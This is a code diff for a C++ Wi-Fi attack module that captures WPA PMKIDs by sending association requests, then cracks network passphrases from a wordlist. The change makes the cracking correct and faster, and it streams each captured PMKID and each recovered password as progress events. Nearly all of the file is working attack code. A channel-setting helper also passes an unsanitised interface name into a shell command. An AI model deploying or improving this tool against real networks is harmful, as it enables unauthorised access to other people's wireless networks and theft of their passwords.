@@ -1,4 +1,6 @@
 #include "airlevi-pmkid/pmkid_attack.h"
+#include "common/pmkid_index.h"
+#include "common/progress_stream.h"
 #include <iostream>
 #include <fstream>
 #include <sstream>
@@ -10,29 +12,14 @@
 #include <linux/if_packet.h>
 #include <net/ethernet.h>
 #include <arpa/inet.h>
+#include <openssl/evp.h>
 #include <openssl/sha.h>
 #include <openssl/hmac.h>
-#include <openssl/pbkdf2.h>
 #include <cstdio>
 #include <random>
+#include <cmath>
 
-PMKIDAttack::PMKIDAttack() 
-    : pcap_handle(nullptr), running(false), channel_hopping_enabled(false),
-      current_channel(1), dwell_time_ms(250), packets_sent(0), pmkids_captured(0),
-      cracking_enabled(false), cracking_thread_running(false) {
-    
-    // Initialize channels list (2.4GHz)
-    for (int i = 1; i <= 14; ++i) {
-        channels.push_back(i);
-    }
-
-// Helpers for MAC handling
-static bool parseMacString(const std::string& mac_str, MacAddress& out) {
-    unsigned int b[6];
-    if (std::sscanf(mac_str.c_str(), "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5]) != 6) return false;
-    for (int i = 0; i < 6; ++i) out.bytes[i] = static_cast<uint8_t>(b[i] & 0xFF);
-    return true;
-}
+namespace airlevi {
 
 static MacAddress randomMac() {
     std::random_device rd;
@@ -43,6 +30,16 @@ static MacAddress randomMac() {
     m.bytes[0] = (m.bytes[0] | 0x02) & 0xFE; // locally administered, unicast
     return m;
 }
+
+PMKIDAttack::PMKIDAttack() 
+    : pcap_handle(nullptr), running(false), channel_hopping_enabled(false),
+      current_channel(1), dwell_time_ms(250), packets_sent(0), pmkids_captured(0),
+      cracking_enabled(false), cracking_thread_running(false) {
+    
+    // Initialize channels list (2.4GHz)
+    for (int i = 1; i <= 14; ++i) {
+        channels.push_back(i);
+    }
     
     // Add 5GHz channels
     std::vector<int> ghz5_channels = {36, 40, 44, 48, 52, 56, 60, 64, 100, 104, 108, 112, 116, 120, 124, 128, 132, 136, 140, 149, 153, 157, 161, 165};
@@ -194,8 +191,11 @@ PMKIDStats PMKIDAttack::getStats() const {
     stats.runtime_seconds = std::chrono::duration_cast<std::chrono::seconds>(now - start_time).count();
     stats.packets_sent = packets_sent.load();
     stats.pmkids_captured = pmkids_captured.load();
-    stats.targets_found = targets.size();
     stats.current_channel = current_channel;
+    {
+        std::lock_guard<std::mutex> lock(targets_mutex);
+        stats.targets_found = targets.size();
+    }
     
     std::lock_guard<std::mutex> lock(results_mutex);
     stats.cracked_count = std::count_if(results.begin(), results.end(), 
@@ -327,9 +327,11 @@ void PMKIDAttack::parseDataFrame(const u_char* packet, int length) {
 }
 
 void PMKIDAttack::extractPMKID(const u_char* packet, int length) {
-    // Extract BSSID and PMKID from EAPOL-Key frame
+    // Extract BSSID, station and PMKID from EAPOL-Key frame
     MacAddress bssid;
     std::memcpy(bssid.bytes, packet + 16, 6);
+    MacAddress client_mac;
+    std::memcpy(client_mac.bytes, packet + 4, 6);
     
     // Look for PMKID in key data
     const u_char* key_data = packet + 99; // Approximate offset
@@ -358,6 +360,7 @@ void PMKIDAttack::extractPMKID(const u_char* packet, int length) {
             if (!already_exists) {
                 PMKIDResult result;
                 result.bssid = bssid;
+                result.client_mac = client_mac;
                 result.pmkid = pmkid;
                 result.timestamp = std::chrono::steady_clock::now();
                 
@@ -369,9 +372,12 @@ void PMKIDAttack::extractPMKID(const u_char* packet, int length) {
                 result.pmkid_hex = ss.str();
                 
                 // Find SSID from targets
-                auto target_it = targets.find(bssid);
-                if (target_it != targets.end()) {
-                    result.ssid = target_it->second.ssid;
+                {
+                    std::lock_guard<std::mutex> targets_lock(targets_mutex);
+                    auto target_it = targets.find(bssid);
+                    if (target_it != targets.end()) {
+                        result.ssid = target_it->second.ssid;
+                    }
                 }
                 
                 results.push_back(result);
@@ -379,6 +385,11 @@ void PMKIDAttack::extractPMKID(const u_char* packet, int length) {
                 
                 std::cout << "[+] PMKID captured from " << bssid.toString() 
                          << " (" << result.ssid << ")" << std::endl;
+                ProgressStream::getInstance().emit(ProgressEvent("capture")
+                    .add("bssid", bssid.toString())
+                    .add("station", client_mac.toString())
+                    .add("essid", result.ssid)
+                    .add("pmkid", result.pmkid_hex));
             }
             break;
         }
@@ -412,7 +423,7 @@ void PMKIDAttack::sendAssociationRequests() {
         const PMKIDTarget& target = pair.second;
         
         // Skip if target BSSID is set and doesn't match
-        if (!target_bssid.isNull() && target.bssid != target_bssid) {
+        if (!(target_bssid == MacAddress()) && !(target.bssid == target_bssid)) {
             continue;
         }
         
@@ -456,56 +467,87 @@ void PMKIDAttack::crackingLoop() {
         return;
     }
     
+    // PMKIDs bucketed by SSID: one PBKDF2 per password and SSID, then every
+    // PMKID sharing that salt is checked in a single pass
+    PMKIDIndex index;
+    std::vector<size_t> result_of;   // index id -> position in results
+    size_t indexed = 0;
+    std::vector<size_t> matches;
+    
+    wordlist.seekg(0, std::ios::end);
+    uint64_t wordlist_size = static_cast<uint64_t>(wordlist.tellg());
+    wordlist.seekg(0, std::ios::beg);
+    auto start = std::chrono::steady_clock::now();
+    uint64_t tested = 0;
+    size_t cracked = 0;
+    
     std::string password;
     while (cracking_thread_running && std::getline(wordlist, password)) {
-        // Try to crack all captured PMKIDs
-        std::lock_guard<std::mutex> lock(results_mutex);
+        // Pick up PMKIDs captured since the last password
+        {
+            std::lock_guard<std::mutex> lock(results_mutex);
+            for (; indexed < results.size(); ++indexed) {
+                const auto& result = results[indexed];
+                if (result.ssid.empty() || result.pmkid.size() < 16) continue;
+                
+                size_t id = index.add(result.ssid, result.bssid, result.client_mac, result.pmkid.data());
+                if (id == result_of.size()) {
+                    result_of.push_back(indexed);
+                }
+            }
+        }
         
-        for (auto& result : results) {
-            if (result.passphrase.empty()) {
-                if (verifyPMKID(result, password)) {
+        // The index belongs to this thread: PBKDF2 and matching run without
+        // holding up capture, which appends to results under the lock
+        for (const std::string& ssid : index.getESSIDs()) {
+            uint8_t pmk[32];
+            if (PKCS5_PBKDF2_HMAC(password.c_str(), password.length(),
+                                  (const unsigned char*)ssid.c_str(), ssid.length(),
+                                  4096, EVP_sha1(), 32, pmk) != 1) {
+                continue;
+            }
+            
+            matches.clear();
+            index.match(ssid, pmk, matches);
+            if (matches.empty()) continue;
+            
+            std::lock_guard<std::mutex> lock(results_mutex);
+            for (size_t id : matches) {
+                auto& result = results[result_of[id]];
+                if (result.passphrase.empty()) {
                     result.passphrase = password;
+                    cracked++;
                     std::cout << "[+] CRACKED! " << result.bssid.toString() 
                              << " (" << result.ssid << ") -> " << password << std::endl;
+                    ProgressStream::getInstance().emit(ProgressEvent("found")
+                        .add("bssid", result.bssid.toString())
+                        .add("station", result.client_mac.toString())
+                        .add("essid", result.ssid)
+                        .add("password", password));
                 }
             }
         }
         
+        tested++;
+        if (ProgressStream::getInstance().progressDue()) {
+            std::streamoff offset = wordlist.tellg();
+            uint64_t position = offset < 0 ? wordlist_size : static_cast<uint64_t>(offset);
+            double elapsed = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
+            double fraction = wordlist_size > 0 ? static_cast<double>(position) / wordlist_size : 1.0;
+            ProgressStream::getInstance().emit(ProgressEvent("progress")
+                .add("tested", tested)
+                .add("rate", elapsed > 0 ? tested / elapsed : 0.0)
+                .add("position", position)
+                .add("keyspace", wordlist_size)
+                .add("progress", fraction)
+                .add("eta", fraction > 0 ? elapsed * (1.0 - fraction) / fraction : NAN)
+                .add("targets_remaining", index.size() - cracked), true);
+        }
+        
         std::this_thread::sleep_for(std::chrono::microseconds(100));
     }
 }
 
-bool PMKIDAttack::verifyPMKID(const PMKIDResult& result, const std::string& password) {
-    // Simplified PMKID verification
-    // In real implementation, this would use PBKDF2 and HMAC-SHA1
-    
-    // Generate PMK from password and SSID
-    uint8_t pmk[32];
-    if (PKCS5_PBKDF2_HMAC(password.c_str(), password.length(),
-                          (const unsigned char*)result.ssid.c_str(), result.ssid.length(),
-                          4096, EVP_sha1(), 32, pmk) != 1) {
-        return false;
-    }
-    
-    // Calculate PMKID = HMAC-SHA1-128(PMK, "PMK Name" | MAC_AP | MAC_STA)
-    uint8_t pmkid_data[22];
-    std::memcpy(pmkid_data, "PMK Name", 8);
-    std::memcpy(pmkid_data + 8, result.bssid.bytes, 6);
-    // Use a dummy client MAC for verification
-    MacAddress dummy_client; // 02:00:00:00:00:01
-    parseMacString("02:00:00:00:00:01", dummy_client);
-    std::memcpy(pmkid_data + 14, dummy_client.bytes, 6);
-    
-    uint8_t calculated_pmkid[20];
-    unsigned int len;
-    if (HMAC(EVP_sha1(), pmk, 32, pmkid_data, 22, calculated_pmkid, &len) == nullptr) {
-        return false;
-    }
-    
-    // Compare first 16 bytes
-    return std::memcmp(calculated_pmkid, result.pmkid.data(), 16) == 0;
-}
-
 bool PMKIDAttack::setWifiChannel(const std::string& interface, uint8_t channel) {
     std::string cmd = "iwconfig " + interface + " channel " + std::to_string(channel) + " 2>/dev/null";
     return system(cmd.c_str()) == 0;
@@ -567,3 +609,5 @@ void PMKIDAttack::displayStatus() const {
         std::cout << "╚══════════════════╩════════════════════════════╩═══════════════════════════╝\n";
     }
 }
+
+} // namespace airlevi